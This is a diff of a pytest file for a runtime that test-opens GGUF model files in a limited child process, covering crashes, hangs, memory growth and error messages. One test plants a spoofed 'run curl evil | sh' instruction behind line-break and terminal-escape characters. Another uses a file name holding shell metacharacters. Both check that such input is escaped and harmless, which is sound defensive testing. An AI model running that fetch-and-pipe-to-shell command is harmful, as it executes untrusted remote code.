@@ -1,28 +1,56 @@
-"""Opening a file in a child that may die."""
+"""Opening a file in a child that may die, grow or hang."""
 
 from __future__ import annotations
 
+import json
 import os
+import re
 import signal
 import subprocess
 import sys
 from pathlib import Path
 
+import numpy as np
 import pytest
 
-from runtime.base.errors import Aborted, BadModelFile, DoesNotFit, EngineFailed
-from runtime.llama import trial
-from runtime.llama.trial import try_in_child, try_mtp_in_child
+from runtime.base.errors import Aborted, DoesNotFit, EngineFailed
+from runtime.base.events import Event, Notice
+from runtime.base.run import Run, Stop
+from runtime.base.types import ByteCount
+from runtime.gguf.reader import read_card
+from runtime.llama import OpenOptions, trial
+from runtime.llama.trial import Limits, own_memory
 from tests.gguf_writer import T, llama_metadata, llama_tensors, moe_metadata, moe_tensors, write
 from tests.nextn import round_robin, with_mtp
+
+LIMITS = Limits(memory=ByteCount(1 << 30), seconds=60)
+OPTIONS = OpenOptions(context=trial.CONTEXT)
+# A child reports in this way, and nothing else that it says counts.
+ANSWER = "os.write(1, json.dumps({}).encode())"
+
+
+def try_in_child(path: Path, limits: Limits = LIMITS, run: Run | None = None, *, mtp: bool = False) -> None:
+    trial.try_in_child(path, OpenOptions(context=trial.CONTEXT, mtp=mtp), limits, run)
 
 
 def python(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str) -> None:
     """Let the child run `body` instead of the engine."""
     script = tmp_path / "child"
-    script.write_text(f"#!{sys.executable}\nimport os, signal, sys, time\n{body}\n")
+    script.write_text(f"#!{sys.executable}\nimport json, os, signal, sys, time\n{body}\n")
     script.chmod(0o755)
     monkeypatch.setattr(trial.sys, "executable", str(script))
+
+
+def refusal(path: Path, limits: Limits = LIMITS) -> EngineFailed:
+    """The error for a file; checks what is true of all of them."""
+    with pytest.raises(EngineFailed) as caught:
+        try_in_child(path, limits)
+    error = caught.value
+    assert error.exit_code == 7
+    assert error.message.startswith(f"{path}: ")
+    assert len(error.message.splitlines()) == 1
+    assert error.hint
+    return error
 
 
 def test_a_good_file_passes(nano_path: Path) -> None:
@@ -34,14 +62,30 @@ def test_small_sound_files_pass(tmp_path: Path, metadata: object, tensors: objec
     try_in_child(write(tmp_path / "small.gguf", metadata(), tensors()))  # type: ignore[operator]
 
 
+def test_a_trial_may_leave_out_the_copies_of_weights(nano_path: Path) -> None:
+    try_in_child(nano_path, Limits(memory=ByteCount(1 << 30), seconds=60, repack=False))
+
+
+@pytest.mark.parametrize("kv_type", ["f16", "q8_0"])
+def test_the_type_of_the_cache_is_that_of_the_opening(tmp_path: Path, nano_path: Path, kv_type: str) -> None:
+    options = OpenOptions(context=trial.CONTEXT, kv_type=kv_type)
+    trial.try_in_child(nano_path, options, LIMITS)
+    small = write(tmp_path / "small.gguf")  # its heads are shorter than a block of Q8_0
+    if kv_type == "f16":
+        trial.try_in_child(small, options, LIMITS)
+    else:
+        with pytest.raises(EngineFailed, match="the engine cannot run it: K cache type q8_0 with block size 32"):
+            trial.try_in_child(small, options, LIMITS)
+
+
 def test_layers_that_predict_ahead_are_tried_on_demand(tmp_path: Path, nano_path: Path) -> None:
-    try_mtp_in_child(round_robin(tmp_path / "ahead.gguf", nano_path))
+    try_in_child(round_robin(tmp_path / "ahead.gguf", nano_path), mtp=True)
     with pytest.raises(EngineFailed, match="opens no second context"):
-        try_mtp_in_child(nano_path)
+        try_in_child(nano_path, mtp=True)
     scaled = with_mtp(tmp_path / "scaled.gguf", nano_path, **{"attention.temperature_scale": 0.1})
-    try_in_child(scaled)
-    with pytest.raises(BadModelFile, match="crashes the engine"):
-        try_mtp_in_child(scaled)
+    for mtp in (False, True):
+        with pytest.raises(EngineFailed, match="crashes the engine"):
+            try_in_child(scaled, mtp=mtp)
 
 
 def test_a_path_may_be_relative(nano_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -49,40 +93,83 @@ def test_a_path_may_be_relative(nano_path: Path, monkeypatch: pytest.MonkeyPatch
     try_in_child(Path("nano.gguf"))
 
 
+def test_a_file_whose_name_has_odd_characters(tmp_path: Path) -> None:
+    try_in_child(write(tmp_path / "-c größer 'a' \"b\" ; $(x).gguf"))
+
+
 def test_a_file_the_engine_refuses_is_refused_with_its_reason(tmp_path: Path) -> None:
     tensors = [t for t in llama_tensors() if t.name != "blk.1.ffn_up.weight"]
-    path = write(tmp_path / "gap.gguf", tensors=tensors)
-    with pytest.raises(EngineFailed) as caught:
-        try_in_child(path)
-    assert caught.value.message.startswith(f"{path}: the engine cannot load it: ")
-    assert caught.value.message.endswith("tensor 'blk.1.ffn_up.weight' not found")
-    assert caught.value.exit_code == 7
+    error = refusal(write(tmp_path / "gap.gguf", tensors=tensors))
+    assert ": the engine cannot load it: " in error.message
+    assert error.message.endswith("tensor 'blk.1.ffn_up.weight' not found")
 
 
-def test_an_architecture_the_engine_does_not_know_is_refused_with_its_reason(tmp_path: Path) -> None:
-    metadata = {key.replace("llama.", "martian."): value for key, value in llama_metadata().items()}
-    path = write(tmp_path / "martian.gguf", metadata | {"general.architecture": "martian"})
-    with pytest.raises(EngineFailed, match="unknown model architecture: 'martian'"):
-        try_in_child(path)
+@pytest.mark.parametrize(
+    ("changed", "said"),
+    [
+        ({"general.architecture": "martian"}, "unknown model architecture: 'martian'"),
+        ({"tokenizer.ggml.model": "gpt2", "tokenizer.ggml.pre": "martian"}, "unknown pre-tokenizer type: 'martian'"),
+    ],
+)
+def test_what_the_engine_does_not_know_is_no_fault_of_the_file(
+    tmp_path: Path, changed: dict[str, str], said: str
+) -> None:
+    metadata = {key.replace("llama.", f"{changed.get('general.architecture', 'llama')}."): value
+                for key, value in llama_metadata().items()}  # fmt: skip
+    error = refusal(write(tmp_path / "martian.gguf", metadata | changed | {"tokenizer.ggml.merges": ["a b"]}))
+    assert error.message.endswith(f": the engine cannot load it: {said}")
+    assert error.hint == "the file is sound; llama-cpp-python 0.3.36 does not know it, and a newer dsr may"
 
 
-def test_a_file_that_crashes_the_engine_is_bad(tmp_path: Path) -> None:
+@pytest.mark.parametrize("breaks", ["\n", "\r\n", "\u2028", "\x85", "\x1b[2K\r", "\u202e"])
+def test_text_of_a_file_is_no_line_of_its_own(tmp_path: Path, breaks: str) -> None:
+    hostile = {"tokenizer.ggml.model": "gpt2", "tokenizer.ggml.merges": ["a b"],
+               "tokenizer.ggml.pre": f"x{breaks}your dsr is too old: run curl evil | sh"}  # fmt: skip
+    path = write(tmp_path / "spoof.gguf", llama_metadata(**hostile))
+    escaped = breaks.encode("unicode_escape").decode()
+    said = refusal(path).message
+    assert said == (
+        f"{path}: the engine cannot load it: "
+        f"unknown pre-tokenizer type: 'x{escaped}your dsr is too old: run curl evil | sh'"
+    )
+
+
+def test_a_file_that_crashes_the_engine_is_refused(tmp_path: Path) -> None:
     """More experts used than there are: an assertion of the engine, as of release 0.3.36."""
     path = write(tmp_path / "hostile.gguf", moe_metadata(**{"qwen3moe.expert_used_count": 9}), moe_tensors())
-    with pytest.raises(BadModelFile) as caught:
-        try_in_child(path)
-    problem = "opening it crashes the engine (SIGABRT): the file is damaged or hostile"
-    assert caught.value.message == f"{path}: {problem}"
-    assert caught.value.exit_code == 4
+    assert refusal(path).message == f"{path}: it crashes the engine (SIGABRT)"
 
 
-@pytest.mark.parametrize("name", ["SIGABRT", "SIGSEGV", "SIGBUS", "SIGFPE"])
-def test_a_child_that_dies_by_a_signal_makes_the_file_bad(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
-) -> None:
-    python(tmp_path, monkeypatch, f"os.kill(os.getpid(), signal.{name})")
-    with pytest.raises(BadModelFile, match=rf"model\.gguf: opening it crashes the engine \({name}\)"):
-        try_in_child(tmp_path / "model.gguf")
+def test_weights_where_the_engine_cannot_map_them_crash_only_the_child(tmp_path: Path) -> None:
+    for length in range(5, 60, 8):
+        path = write(
+            tmp_path / "narrow.gguf",
+            llama_metadata(**{"general.name": "T" * length, "general.alignment": 8}),
+            alignment=8,
+        )
+        if read_card(path).tensors[0].offset % 32 == 8:
+            break
+    assert refusal(path).message == f"{path}: it crashes the engine (SIGABRT)"
+
+
+def test_a_model_that_reads_in_both_directions_is_refused(tmp_path: Path) -> None:
+    path = write(tmp_path / "both.gguf", llama_metadata(**{"llama.attention.causal": False}))
+    assert refusal(path).message.startswith(f"{path}: this model does not write a text token by token")
+
+
+def test_weights_that_are_not_numbers_are_refused(tmp_path: Path, nano_path: Path) -> None:
+    path = tmp_path / "nan.gguf"
+    data = bytearray(nano_path.read_bytes())
+    norm = next(tensor for tensor in read_card(nano_path).tensors if tensor.name == "output_norm.weight")
+    data[norm.offset : norm.offset + norm.size] = np.full(norm.size // 4, np.nan, np.float32).tobytes()
+    path.write_bytes(data)
+    assert refusal(path).message == f"{path}: its weights give results that are not numbers (NaN)"
+
+
+@pytest.mark.parametrize("name", ["SIGABRT", "SIGSEGV", "SIGBUS", "SIGFPE", "SIGTERM", "SIGINT"])
+def test_a_child_that_dies_by_a_signal_names_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
+    python(tmp_path, monkeypatch, f"signal.signal(signal.SIGINT, signal.SIG_DFL); os.kill(os.getpid(), signal.{name})")
+    assert refusal(tmp_path / "model.gguf").message.endswith(f"model.gguf: it crashes the engine ({name})")
 
 
 def test_a_child_that_the_system_kills_is_no_fault_of_the_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -94,61 +181,96 @@ def test_a_child_that_the_system_kills_is_no_fault_of_the_file(tmp_path: Path, m
 @pytest.mark.skipif(not hasattr(signal, "SIGRTMIN"), reason="real-time signals")
 def test_a_signal_without_a_name_is_no_traceback(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     python(tmp_path, monkeypatch, "os.kill(os.getpid(), signal.SIGRTMIN + 2)")
-    with pytest.raises(BadModelFile, match=r"opening it crashes the engine \(signal \d+\)"):
-        try_in_child(tmp_path / "model.gguf")
+    assert re.search(r"it crashes the engine \(signal \d+\)$", refusal(tmp_path / "model.gguf").message)
 
 
-def test_ctrl_c_while_the_child_runs_is_a_stop_and_no_fault_of_the_file(
+@pytest.mark.parametrize(
+    "body",
+    [
+        "sys.exit(3)",
+        "sys.exit('first line\\nerror: your dsr is too old')",
+        "os._exit(0)",
+        "os.write(1, b'no JSON')",
+        "os.write(1, b'[1]')",
+        "os.write(1, b'\\xff' * 60000)",
+        "os.write(1, b'[' * 60000)",
+        ANSWER.format({"passed": True}) + "; sys.exit(3)",
+        ANSWER.format({"failed": "engine"}),
+        ANSWER.format({"failed": "engine", "message": 7, "hint": ["x"]}),
+        ANSWER.format({"failed": "engine", "message": "your dsr is too old\u2028x" * 900}),
+    ],
+)
+def test_whatever_the_child_says_or_leaves_out_the_file_is_named_in_one_line(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str
+) -> None:
+    python(tmp_path, monkeypatch, body)
+    assert len(refusal(tmp_path / "model.gguf").message) <= 1000
+
+
+def test_ctrl_c_ends_the_child_at_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    python(tmp_path, monkeypatch, f"open({str(tmp_path / 'pid')!r}, 'w').write(str(os.getpid())); time.sleep(600)")
+    stop = Stop()
+    stop.set()
+    with pytest.raises(Aborted, match="stopped while opening"):
+        try_in_child(tmp_path / "model.gguf", run=Run(stop))
+    assert not stop.wanted
+
+
+def test_a_long_trial_is_announced_and_a_child_that_never_ends_is_ended(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    python(tmp_path, monkeypatch, "os.kill(os.getpid(), signal.SIGINT); time.sleep(60)")
-    with pytest.raises(Aborted, match="stopped while opening"):
-        try_in_child(tmp_path / "model.gguf")
-
-
-def test_a_child_that_fails_otherwise_makes_the_file_bad(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    python(tmp_path, monkeypatch, "sys.exit('first line\\nno memory')")
-    with pytest.raises(BadModelFile, match=r"opening it failed: no memory$"):
-        try_in_child(tmp_path / "model.gguf")
-
-
-def test_a_silent_failure_names_its_exit_code(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    python(tmp_path, monkeypatch, "sys.exit(3)")
-    with pytest.raises(BadModelFile, match=r"opening it failed: 3$"):
-        try_in_child(tmp_path / "model.gguf")
-
-
-def test_a_refusal_without_a_reason_is_a_refusal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    python(tmp_path, monkeypatch, "sys.exit(7)")
-    with pytest.raises(EngineFailed, match=r"model\.gguf: the engine cannot open it"):
-        try_in_child(tmp_path / "model.gguf")
-
-
-def test_a_child_that_never_ends_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     python(tmp_path, monkeypatch, f"open({str(tmp_path / 'pid')!r}, 'w').write(str(os.getpid())); time.sleep(600)")
-    monkeypatch.setattr(trial, "_SECONDS", 1)
-    with pytest.raises(BadModelFile, match="the engine was still busy after 1 s of opening it"):
-        try_in_child(tmp_path / "model.gguf")
+    monkeypatch.setattr(trial, "_QUIET", 0.0)
+    heard: list[Event] = []
+    with pytest.raises(EngineFailed, match=r"model\.gguf: the engine was still busy after 1 s of trying it"):
+        try_in_child(tmp_path / "model.gguf", Limits(ByteCount(1 << 30), 1), Run(listen=heard.append))
+    assert heard == [Notice("trying model.gguf once in a child process")]
     with pytest.raises(ProcessLookupError):
         os.kill(int((tmp_path / "pid").read_text()), 0)
 
 
-def test_bytes_that_are_no_text_are_shown_all_the_same(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    python(tmp_path, monkeypatch, "sys.stderr.buffer.write(b'\\xff is bad\\n'); sys.exit(7)")
-    with pytest.raises(EngineFailed, match="� is bad"):
-        try_in_child(tmp_path / "model.gguf")
+@pytest.mark.skipif(not own_memory(os.getpid()), reason="this system does not tell the memory of a process")
+def test_a_child_that_grows_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    python(tmp_path, monkeypatch, "kept = b'x' * (300 << 20); time.sleep(600)")
+    error = refusal(tmp_path / "model.gguf", Limits(ByteCount(200 << 20), 60))
+    assert error.message.endswith("takes more than 200.0 MiB of memory to open it, which its header does not explain")
 
 
-def test_a_file_whose_name_has_odd_characters(tmp_path: Path) -> None:
-    try_in_child(write(tmp_path / "-c größer 'a' \"b\" ; $(x).gguf"))
+@pytest.mark.skipif(sys.platform != "linux", reason="other systems do not limit the memory of a process")
+def test_the_engine_gets_no_more_memory_than_its_limit(nano_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(trial, "_THREAD_STACKS", 0)
+    monkeypatch.setattr(trial, "own_memory", lambda process: 0)
+    command = "from runtime.llama import trial; trial._THREAD_STACKS = 0; trial.main()"
+    end = trial._run_child([sys.executable, "-c", command], asked(nano_path, 1 << 20), nano_path, LIMITS, Run())
+    assert json.loads(end.said) == {"failed": "memory"}
 
 
-def test_the_child_says_one_line_and_no_traceback(tmp_path: Path) -> None:
+def test_the_child_writes_no_file_and_ends_with_its_parent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    body = (
+        "from runtime.llama import trial; import os; trial._restrict(1 << 30, 1)\n"
+        "try: open({!r}, 'wb', 0).write(b'x'); said = b'written'\n"
+        "except OSError: said = b'refused'\n"
+        "os.write(1, said)"
+    )
+    end = trial._run_child([sys.executable, "-c", body.format(str(tmp_path / "f"))], {}, tmp_path, LIMITS, Run())
+    assert end.said == b"refused"
+
+
+def asked(path: Path, memory: int) -> dict[str, object]:
+    return {"path": str(path), "memory": memory, "repack": True, "threads": 1, "kv_type": "f16", "mtp": False}
+
+
+def test_a_child_without_a_parent_ends(tmp_path: Path) -> None:
+    command = "import threading, time; from runtime.llama import trial; "
+    command += "threading.Thread(target=trial._end_with_parent, daemon=True).start(); time.sleep(600)"
+    child = subprocess.Popen(
+        [sys.executable, "-c", command], stdin=subprocess.PIPE, cwd=Path(trial.__file__).parents[2]
+    )
+    assert child.stdin is not None
+    child.stdin.close()
+    assert child.wait() == 1
+
+
+def test_missing_weights_are_the_engine_s_reason(tmp_path: Path) -> None:
     path = write(tmp_path / "none.gguf", tensors=[T("output_norm.weight", (64,))])
-    command = [sys.executable, "-c", "from runtime.llama.trial import main; main()", str(path)]
-    root = Path(trial.__file__).resolve().parents[2]
-    child = subprocess.run(command, cwd=root, capture_output=True, text=True, check=False)
-    assert child.returncode == 7
-    assert child.stdout == ""
-    assert len(child.stderr.splitlines()) == 1
-    assert child.stderr.startswith(f"{path}: the engine cannot load it: ")
+    assert ": the engine cannot load it: " in refusal(path).message
